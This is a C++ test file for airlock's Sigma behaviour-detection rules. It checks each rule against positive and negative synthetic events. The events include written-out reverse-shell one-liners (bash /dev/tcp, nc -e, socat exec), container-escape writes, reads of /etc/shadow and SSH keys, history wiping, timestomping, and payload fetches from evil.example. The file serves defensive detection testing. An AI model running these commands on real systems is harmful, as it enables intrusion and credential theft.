// airlock's own behaviour rules (rules/behavior): every rule loads, is supported, carries an ATT&CK
// technique, and has at least one positive and one negative event below that behave as expected.
#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <tuple>
#include <vector>

#include "event_synth.h"
#include "sigma/rule_set.h"

namespace airlock::sigma::test {
namespace {

const std::string kBehaviorDir = AIRLOCK_SOURCE_DIR "/rules/behavior";

struct Case {
  const char* rule_id;
  const char* event;
  bool should_match;
};

// Rule ids (see the YAML files for titles).
#define NS_SYSCALL "4997ff51-8614-40e6-9a79-6d869121fbac"
#define PTRACE "79628687-bba5-4453-8c9c-f8fdf47df0c5"
#define KERNEL_CODE "012a4d7a-c906-48c9-8b8a-63061472ac11"
#define HOST_ROOT "9f63ce39-3054-4651-99a5-85151643742b"
#define ESCAPE_CLI "9ede05b3-9530-4729-881d-dc3e54b9cabe"
#define KTRIGGER "d2dd20de-7690-4c44-8beb-69263156c4b3"
#define CRON "386e7e2b-a809-48ab-b1d1-cfa8aac5ce7d"
#define SYSTEMD "4bfe5369-aa49-41d5-9076-733f9069b6e1"
#define AUTOSTART "aa9e4bcb-337a-43f0-8cef-63d423e0fdf7"
#define SHELL_RC "2ccce8f0-ed75-4888-97b4-d45153907edf"
#define AUTH_KEYS "fa6432e0-f600-4fd7-a63f-6d040e127d9c"
#define PRELOAD "921e99fc-ee99-423f-a21a-e516968feddf"
#define CRED_CLI "b20f1057-81f2-43b0-a1fc-67c0cb853eae"
#define CRED_OPEN "223fe0eb-5464-4820-b536-f0a1c79b4196"
#define DROPPED "798564a1-f83c-48c4-91af-5ef551a3b7d0"
#define MEMFD "c45de8b7-5dbc-4684-ba57-17c77c60179d"
#define KTHREAD "705513d0-8b94-4068-9175-c9b0a81fe920"
#define HISTORY "cea4e4df-1a92-4724-b9b1-1138701bd872"
#define TIMESTOMP "dcd81ebb-5d31-4660-92d3-c0c762146008"
#define SELF_DELETE "3bb575df-863c-40a9-9cb7-14c771f67e3c"
#define REVSHELL "e349e4c3-3d0f-44b1-a14d-bafacef501c0"
#define MINER_CLI "3eb57c81-bdb5-4ad9-9830-eb5ac2dfb069"
#define MINER_DNS "78c72306-140a-40ac-8409-2695a9e651cf"
#define MINER_NET "1d28c93e-a9e1-40a9-8aa1-d5a976d05873"
#define C2_POST "27cebf22-2cc8-4ea0-a910-363b7e21864f"
#define HTTP_FETCH "3b48cdbf-42f3-4148-8d50-1c6133bc701a"

const Case kCases[] = {
    {NS_SYSCALL, R"json({"category":"syscall","Syscall":"unshare","Image":"/tmp/x","Decision":"denied","Args":["CLONE_NEWUSER"]})json", true},
    {NS_SYSCALL, R"json({"category":"syscall","Syscall":"open_tree","Image":"/tmp/x","Decision":"denied"})json", true},
    {NS_SYSCALL, R"json({"category":"syscall","Syscall":"unshare","Image":"/tmp/x","Decision":"allowed"})json", false},
    {NS_SYSCALL, R"json({"category":"syscall","Syscall":"openat","Image":"/tmp/x","Decision":"denied"})json", false},
    {PTRACE, R"json({"category":"syscall","Syscall":"ptrace","Image":"/tmp/x","Decision":"denied","Args":["PTRACE_ATTACH","1"]})json", true},
    {PTRACE, R"json({"category":"syscall","Syscall":"ptrace","Image":"/usr/bin/gdb","Decision":"allowed"})json", false},
    {KERNEL_CODE, R"json({"category":"syscall","Syscall":"finit_module","Image":"/tmp/rk","Decision":"denied"})json", true},
    {KERNEL_CODE, R"json({"category":"syscall","Syscall":"bpf","Image":"/tmp/x","Decision":"denied"})json", true},
    {KERNEL_CODE, R"json({"category":"syscall","Syscall":"brk","Image":"/tmp/x","Decision":"denied"})json", false},
    {HOST_ROOT, R"json({"category":"file_event","TargetFilename":"/proc/1/root/etc/cron.d/x","Image":"/tmp/x","Operation":"create"})json", true},
    {HOST_ROOT, R"json({"category":"file_event","TargetFilename":"/proc/12/root/tmp/x","Image":"/tmp/x","Operation":"create"})json", false},
    {ESCAPE_CLI, R"json({"category":"process_creation","Image":"/bin/sh","CommandLine":"sh -c echo /tmp/x > /sys/fs/cgroup/rdma/release_agent"})json", true},
    {ESCAPE_CLI, R"json({"category":"process_creation","Image":"/bin/sh","CommandLine":"echo c > /proc/sysrq-trigger"})json", true},
    {ESCAPE_CLI, R"json({"category":"process_creation","Image":"/bin/cat","CommandLine":"cat /proc/self/status"})json", false},
    {KTRIGGER, R"json({"category":"file_event","TargetFilename":"/proc/sys/kernel/core_pattern","Image":"/bin/sh","Operation":"write-open"})json", true},
    {KTRIGGER, R"json({"category":"file_event","TargetFilename":"/sys/fs/cgroup/memory/x/release_agent","Image":"/bin/sh","Operation":"write-open"})json", true},
    {KTRIGGER, R"json({"category":"file_event","TargetFilename":"/proc/sys/kernel/core_pattern.bak","Image":"/bin/sh","Operation":"create"})json", false},
    {CRON, R"json({"category":"file_event","TargetFilename":"/etc/cron.d/backdoor","Image":"/bin/cp","Operation":"create"})json", true},
    {CRON, R"json({"category":"file_event","TargetFilename":"/var/spool/cron/crontabs/root","Image":"/usr/bin/crontab","Operation":"rename"})json", true},
    {CRON, R"json({"category":"file_event","TargetFilename":"/etc/crontab","Image":"/bin/rm","Operation":"delete"})json", false},
    {CRON, R"json({"category":"file_event","TargetFilename":"/etc/cronjobs.txt","Image":"/bin/cp","Operation":"create"})json", false},
    {SYSTEMD, R"json({"category":"file_event","TargetFilename":"/etc/systemd/system/evil.service","Image":"/bin/cp","Operation":"create"})json", true},
    {SYSTEMD, R"json({"category":"file_event","TargetFilename":"/home/u/.config/systemd/user/x.timer","Image":"/bin/cp","Operation":"write-open"})json", true},
    {SYSTEMD, R"json({"category":"file_event","TargetFilename":"/etc/systemd/system/evil.service","Image":"/bin/rm","Operation":"delete"})json", false},
    {AUTOSTART, R"json({"category":"file_event","TargetFilename":"/home/u/.config/autostart/upd.desktop","Image":"/tmp/x","Operation":"create"})json", true},
    {AUTOSTART, R"json({"category":"file_event","TargetFilename":"/home/u/.config/autostart.txt","Image":"/tmp/x","Operation":"create"})json", false},
    {SHELL_RC, R"json({"category":"file_event","TargetFilename":"/root/.bashrc","Image":"/tmp/x","Operation":"write-open"})json", true},
    {SHELL_RC, R"json({"category":"file_event","TargetFilename":"/etc/profile.d/zz.sh","Image":"/tmp/x","Operation":"create"})json", true},
    {SHELL_RC, R"json({"category":"file_event","TargetFilename":"/root/.bashrc.swp","Image":"/usr/bin/vim","Operation":"create"})json", false},
    {SHELL_RC, R"json({"category":"file_event","TargetFilename":"/root/.bashrc","Image":"/tmp/x","Operation":"chmod","Mode":"0644"})json", false},
    {AUTH_KEYS, R"json({"category":"file_event","TargetFilename":"/root/.ssh/authorized_keys","Image":"/bin/sh","Operation":"write-open"})json", true},
    {AUTH_KEYS, R"json({"category":"file_event","TargetFilename":"/root/.ssh/authorized_keys","Image":"/bin/rm","Operation":"delete"})json", false},
    {AUTH_KEYS, R"json({"category":"file_event","TargetFilename":"/root/.ssh/known_hosts","Image":"/usr/bin/ssh","Operation":"write-open"})json", false},
    {PRELOAD, R"json({"category":"file_event","TargetFilename":"/etc/ld.so.preload","Image":"/tmp/x","Operation":"create"})json", true},
    {PRELOAD, R"json({"category":"file_event","TargetFilename":"/etc/ld.so.conf","Image":"/sbin/ldconfig","Operation":"write-open"})json", false},
    {CRED_CLI, R"json({"category":"process_creation","Image":"/bin/cat","CommandLine":"cat /etc/shadow"})json", true},
    {CRED_CLI, R"json({"category":"process_creation","Image":"/bin/tar","CommandLine":"tar czf /tmp/k.tgz /home/u/.ssh/id_ed25519"})json", true},
    {CRED_CLI, R"json({"category":"process_creation","Image":"/bin/cat","CommandLine":"cat /etc/passwd"})json", false},
    // The browser's own helpers name its profile directory: not credential theft.
    {CRED_CLI, R"json({"category":"process_creation","Image":"/usr/lib/chromium/chrome_crashpad_handler","CommandLine":"chrome_crashpad_handler --database=/home/sandbox/.config/chromium/Crash Reports"})json", false},
    {CRED_OPEN, R"json({"category":"syscall","Syscall":"openat","Image":"/tmp/x","Decision":"denied","Args":["AT_FDCWD","/etc/shadow","O_RDONLY"]})json", true},
    {CRED_OPEN, R"json({"category":"syscall","Syscall":"openat","Image":"/tmp/x","Decision":"allowed","Args":"/home/u/.mozilla/firefox/abc.default/logins.json"})json", true},
    {CRED_OPEN, R"json({"category":"syscall","Syscall":"unlink","Image":"/tmp/x","Decision":"allowed","Args":["/etc/shadow"]})json", false},
    {CRED_OPEN, R"json({"category":"syscall","Syscall":"openat","Image":"/tmp/x","Decision":"allowed","Args":["/etc/hosts"]})json", false},
    {DROPPED, R"json({"category":"process_creation","Image":"/dev/shm/.x/kworker","CommandLine":"kworker"})json", true},
    {DROPPED, R"json({"category":"process_creation","Image":"/home/u/.cache/upd/agent","CommandLine":"agent"})json", true},
    {DROPPED, R"json({"category":"process_creation","Image":"/usr/bin/tmpreaper","CommandLine":"tmpreaper /tmp/"})json", false},
    {MEMFD, R"json({"category":"process_creation","Image":"/memfd:payload (deleted)","CommandLine":"x"})json", true},
    {MEMFD, R"json({"category":"process_creation","Image":"/proc/4242/fd/3","CommandLine":"x"})json", true},
    {MEMFD, R"json({"category":"process_creation","Image":"/usr/bin/memfd-tool","CommandLine":"x"})json", false},
    {KTHREAD, R"json({"category":"process_creation","Image":"/tmp/.x","CommandLine":"[kworker/0:1]"})json", true},
    {KTHREAD, R"json({"category":"process_creation","Image":"/usr/bin/echo","CommandLine":"echo [kworker/0:1]"})json", false},
    {KTHREAD, R"json({"category":"process_creation","Image":"/usr/bin/sleep","CommandLine":"[kworker/0:1] 30"})json", true},
    {HISTORY, R"json({"category":"process_creation","Image":"/bin/bash","CommandLine":"bash -c 'unset HISTFILE; id'"})json", true},
    {HISTORY, R"json({"category":"process_creation","Image":"/usr/bin/shred","CommandLine":"shred -u /root/.bash_history"})json", true},
    {HISTORY, R"json({"category":"process_creation","Image":"/usr/bin/less","CommandLine":"less /root/.bash_history"})json", false},
    {TIMESTOMP, R"json({"category":"process_creation","Image":"/usr/bin/touch","CommandLine":"touch -t 202001010000 /tmp/x"})json", true},
    {TIMESTOMP, R"json({"category":"process_creation","Image":"/usr/bin/touch","CommandLine":"touch -r /bin/ls /tmp/x"})json", true},
    {TIMESTOMP, R"json({"category":"process_creation","Image":"/usr/bin/touch","CommandLine":"touch --reference=/bin/ls /tmp/x"})json", true},
    {TIMESTOMP, R"json({"category":"process_creation","Image":"/usr/bin/touch","CommandLine":"touch /tmp/x"})json", false},
    {TIMESTOMP, R"json({"category":"process_creation","Image":"/usr/bin/date","CommandLine":"date -d yesterday"})json", false},
    {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/tmp/dropper","Image":"/tmp/dropper","Operation":"delete"})json", true},
    {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/tmp/other","Image":"/tmp/dropper","Operation":"delete"})json", false},
    {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/tmp/dropper","Image":"/tmp/dropper","Operation":"write-open"})json", false},
    {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/sample/x.sh","Image":"/usr/bin/rm","Operation":"delete","SelfDelete":"true"})json", true},
    {REVSHELL, R"json({"category":"process_creation","Image":"/bin/bash","CommandLine":"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'"})json", true},
    {REVSHELL, R"json({"category":"process_creation","Image":"/usr/bin/nc","CommandLine":"nc 10.0.0.1 4242 -e /bin/sh"})json", true},
    {REVSHELL, R"json({"category":"process_creation","Image":"/usr/bin/socat","CommandLine":"socat tcp:10.0.0.1:4242 exec:/bin/sh,pty"})json", true},
    {REVSHELL, R"json({"category":"process_creation","Image":"/usr/bin/nc","CommandLine":"nc -z 10.0.0.1 80"})json", false},
    {MINER_CLI, R"json({"category":"process_creation","Image":"/tmp/sys","CommandLine":"sys -o stratum+tcp://pool.example:3333 -u wallet"})json", true},
    {MINER_CLI, R"json({"category":"process_creation","Image":"/opt/xmrig","CommandLine":"xmrig"})json", true},
    {MINER_CLI, R"json({"category":"process_creation","Image":"/usr/bin/python3","CommandLine":"python3 stratum_docs.py"})json", false},
    {MINER_DNS, R"json({"category":"dns_query","QueryName":"xmr-eu1.nanopool.org","Image":"/tmp/x"})json", true},
    {MINER_DNS, R"json({"category":"dns_query","QueryName":"deb.debian.org","Image":"/usr/bin/apt"})json", false},
    {MINER_NET, R"json({"category":"network_connection","Image":"/tmp/x","Protocol":"tcp","DestinationIp":"198.51.100.7","DestinationPort":14444,"Initiated":true})json", true},
    {MINER_NET, R"json({"category":"network_connection","Image":"/tmp/x","Protocol":"tcp","DestinationIp":"127.0.0.1","DestinationPort":3333,"Initiated":true})json", false},
    {MINER_NET, R"json({"category":"network_connection","Image":"/tmp/x","Protocol":"tcp","DestinationIp":"198.51.100.7","DestinationPort":443,"Initiated":true})json", false},
    {C2_POST, R"json({"category":"network_connection","Sinkhole":"true","Protocol":"tcp","DestinationIp":"198.18.0.1","DestinationPort":80,"Method":"POST","Url":"http://c2.example/gate"})json", true},
    {C2_POST, R"json({"category":"network_connection","Sinkhole":"true","Protocol":"tcp","DestinationIp":"198.18.0.1","DestinationPort":80,"Method":"GET","Url":"http://c2.example/"})json", false},
    {C2_POST, R"json({"category":"network_connection","Image":"/usr/bin/python3","Protocol":"tcp","DestinationIp":"127.0.0.1","DestinationPort":8000})json", false},
    {HTTP_FETCH, R"json({"category":"network_connection","Sinkhole":"true","Method":"GET","Url":"http://evil.example/payload","UserAgent":"Python-urllib/3.11"})json", true},
    {HTTP_FETCH, R"json({"category":"network_connection","Sinkhole":"true","Method":"GET","Url":"http://evil.example/x","UserAgent":"Wget/1.21.3"})json", true},
    {HTTP_FETCH, R"json({"category":"network_connection","Sinkhole":"true","Method":"GET","Url":"http://example.org/","UserAgent":"Mozilla/5.0 (X11; Linux x86_64)"})json", false},
};

class BehaviorRules : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    rules_ = new RuleSet();
    ASSERT_TRUE(rules_->LoadDirectory(kBehaviorDir));
  }
  static void TearDownTestSuite() {
    delete rules_;
    rules_ = nullptr;
  }
  static RuleSet* rules_;
};
RuleSet* BehaviorRules::rules_ = nullptr;

TEST_F(BehaviorRules, AllLoadSupportedAndTagged) {
  const auto& r = rules_->report();
  for (const auto& e : r.errors) ADD_FAILURE() << e.reason;
  for (const auto& u : r.unsupported) ADD_FAILURE() << u.file << ": " << u.reason;
  EXPECT_GE(r.loaded, 20u);
  std::set<std::string> ids;
  for (const auto& rule : rules_->rules()) {
    EXPECT_FALSE(rule->techniques.empty()) << rule->origin << " has no attack.tNNNN tag";
    EXPECT_FALSE(rule->id.empty()) << rule->origin;
    EXPECT_TRUE(ids.insert(rule->id).second) << "duplicate id " << rule->id;
    EXPECT_FALSE(rule->level.empty()) << rule->origin;
  }
}

// The cases of the rules added for issue 17, by rule file name (tests/sigma/behavior_cases.json:
// [{"rule": "<file stem>", "match": true|false, "event": {...}}]), as (rule id, event, should_match).
std::vector<std::tuple<std::string, nlohmann::json, bool>> FileCases(const RuleSet& rules) {
  std::map<std::string, std::string> id_by_stem;
  for (const auto& rule : rules.rules()) {
    std::string stem = rule->origin.substr(rule->origin.find_last_of('/') + 1);
    id_by_stem[stem.substr(0, stem.rfind('.'))] = rule->id;
  }
  std::ifstream in(AIRLOCK_SOURCE_DIR "/tests/sigma/behavior_cases.json");
  std::vector<std::tuple<std::string, nlohmann::json, bool>> out;
  for (const auto& c : nlohmann::json::parse(in)) {
    auto it = id_by_stem.find(c["rule"].get<std::string>());
    EXPECT_NE(it, id_by_stem.end()) << "behavior_cases.json names a rule file that is not loaded: " << c["rule"];
    if (it != id_by_stem.end()) out.emplace_back(it->second, c["event"], c["match"].get<bool>());
  }
  return out;
}

TEST_F(BehaviorRules, TableCases) {
  std::map<std::string, std::pair<int, int>> per_rule;  // id -> (positives, negatives)
  std::vector<std::tuple<std::string, nlohmann::json, bool>> cases = FileCases(*rules_);
  for (const auto& c : kCases) cases.emplace_back(c.rule_id, nlohmann::json::parse(c.event), c.should_match);
  for (const auto& [rule_id, ev, should_match] : cases) {
    bool fired = false;
    for (const auto& m : rules_->Match(ev))
      if (m.rule->id == rule_id) fired = true;
    EXPECT_EQ(fired, should_match) << rule_id << " on " << ev.dump();
    auto& counts = per_rule[rule_id];
    (should_match ? counts.first : counts.second)++;
  }
  for (const auto& rule : rules_->rules()) {
    auto it = per_rule.find(rule->id);
    ASSERT_NE(it, per_rule.end()) << rule->origin << " has no test events";
    EXPECT_GT(it->second.first, 0) << rule->origin << " has no positive event";
    EXPECT_GT(it->second.second, 0) << rule->origin << " has no negative event";
  }
  EXPECT_EQ(per_rule.size(), rules_->rules().size()) << "table names a rule id that is not loaded";
}

TEST_F(BehaviorRules, SynthesiserAlsoCoversThem) {
  // Same generator as the SigmaHQ corpus; fieldref is not synthesised (the self-deletion rule is
  // covered through its SelfDelete selection, its fieldref one by the table).
  const std::set<std::string> kNotSynthesised = {};
  for (const auto& rule : rules_->rules()) {
    std::ifstream in(rule->origin);
    std::stringstream ss;
    ss << in.rdbuf();
    const Rule* target = rule.get();
    auto fires = [&](const nlohmann::json& ev) {
      for (const auto& m : rules_->Match(ev))
        if (m.rule == target) return true;
      return false;
    };
    SynthResult s = Synthesise(ss.str(), fires);
    EXPECT_EQ(s.ok, !kNotSynthesised.contains(rule->id)) << rule->origin << ": " << s.reason;
    EXPECT_FALSE(fires(Unrelated(ss.str()))) << rule->origin;
  }
}

TEST_F(BehaviorRules, MatchReportsTechniques) {
  nlohmann::json ev = nlohmann::json::parse(kCases[0].event);
  auto matches = rules_->Match(ev);
  ASSERT_EQ(matches.size(), 1u);
  auto j = MatchToJson(*matches[0].rule, ev);
  EXPECT_EQ(j["rule_id"], NS_SYSCALL);
  EXPECT_EQ(j["techniques"], nlohmann::json::array({"T1611"}));
  EXPECT_EQ(j["level"], "high");
  EXPECT_EQ(j["event"], ev);
}

}  // namespace
}  // namespace airlock::sigma::test
